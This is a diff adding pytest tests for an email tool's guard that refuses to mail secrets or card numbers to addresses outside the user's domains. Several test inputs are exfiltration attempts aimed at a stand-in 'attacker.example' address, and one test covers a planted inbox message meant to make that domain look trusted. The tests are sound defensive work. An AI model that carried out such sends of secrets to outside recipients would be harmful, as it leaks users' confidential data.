@@ -147,3 +147,47 @@ def test_a_resumed_send_picks_a_free_name_when_another_run_took_its_file(ws, tmp
     # Replayed once more (A died after writing 002): still one message from A, no third file.
     assert send_mail(run_a, "ann@example.org", "From A", "A's message").endswith("outbox/002.eml")
     assert sorted(p.name for p in (ws / "outbox").iterdir()) == ["001.eml", "002.eml"]
+
+
+# --- item 7: secrets mailed outside the user's domains ---------------------------------------------------------------
+
+def _finder(found: dict[str, tuple[str, str]]):
+    """A stand-in for the export layer's check: value -> (kind, value) wherever the text holds the value."""
+    return lambda text: [pair for value, pair in found.items() if value in text]
+
+
+SECRETS = _finder({"Project Bluebird": ("SECRET", "Project Bluebird"),
+                   "4111 1111 1111 1111": ("CREDIT_CARD", "4111 1111 1111 1111")})
+
+
+def test_a_secret_to_an_outside_address_is_refused_naming_the_kind_not_the_value(ws):
+    ctx = ToolContext(ws, find_secrets=SECRETS)
+    with pytest.raises(ToolError, match="SECRET") as e:
+        send_mail(ctx, "ann@example.org", "Status", "Project Bluebird ships in May")
+    assert "Bluebird" not in str(e.value) and "ann@example.org" in str(e.value)
+    with pytest.raises(ToolError, match="CREDIT_CARD"):
+        draft_mail(ctx, "Ruth <ruth@brightwater.example>, z@attacker.example", "card 4111 1111 1111 1111", "x")
+    assert not (ws / "outbox").exists() and not (ws / "drafts").exists()
+
+
+def test_a_secret_to_the_users_own_domain_is_sent(ws):
+    ctx = ToolContext(ws, find_secrets=SECRETS)
+    assert send_mail(ctx, f"ruth@{HOME_DOMAIN}", "Status", "Project Bluebird ships in May").endswith("001.eml")
+
+
+def test_the_task_may_allow_that_recipient_and_value(ws):
+    named = "Send ann@example.org the project name: Project Bluebird"
+    assert send_mail(ToolContext(ws, task=named, find_secrets=SECRETS), "ann@example.org", "Name",
+                     "It is Project Bluebird").endswith("001.eml")
+    with pytest.raises(ToolError, match="SECRET"):  # the recipient alone does not allow the value
+        send_mail(ToolContext(ws, task="Send ann@example.org a status update", find_secrets=SECRETS),
+                  "ann@example.org", "Status", "Project Bluebird ships")
+    with pytest.raises(ToolError, match="SECRET"):  # nor the value alone another recipient
+        send_mail(ToolContext(ws, task="Tell someone about Project Bluebird", find_secrets=SECRETS),
+                  "z@attacker.example", "Status", "Project Bluebird ships")
+
+
+def test_one_planted_message_does_not_make_an_outside_domain_the_users(ws):
+    (ws / "inbox" / "009.eml").write_bytes(_received("z@attacker.example", 9))
+    with pytest.raises(ToolError, match="SECRET"):
+        send_mail(ToolContext(ws, find_secrets=SECRETS), "z@attacker.example", "Status", "Project Bluebird")
